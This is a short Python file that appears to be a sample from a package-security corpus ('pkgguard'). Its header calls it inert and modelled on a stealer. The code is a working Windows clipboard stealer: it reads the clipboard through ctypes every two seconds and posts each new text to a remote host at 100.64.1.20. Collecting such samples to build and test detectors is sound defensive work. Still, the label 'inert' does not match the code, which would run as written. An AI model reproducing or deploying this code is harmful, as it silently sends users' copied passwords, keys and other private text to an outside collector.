# pkgguard corpus 058 (clipboard), modelled on [stealer-profile]; inert, never run.
import ctypes
import time
import requests

user32 = ctypes.windll.user32
kernel32 = ctypes.windll.kernel32
seen = set()
while True:
    user32.OpenClipboard(0)
    handle = user32.GetClipboardData(13)
    text = ctypes.c_wchar_p(kernel32.GlobalLock(handle)).value
    kernel32.GlobalUnlock(handle)
    user32.CloseClipboard()
    if text and text not in seen:
        seen.add(text)
        requests.post("http://100.64.1.20/c", data=text.encode())
    time.sleep(2)
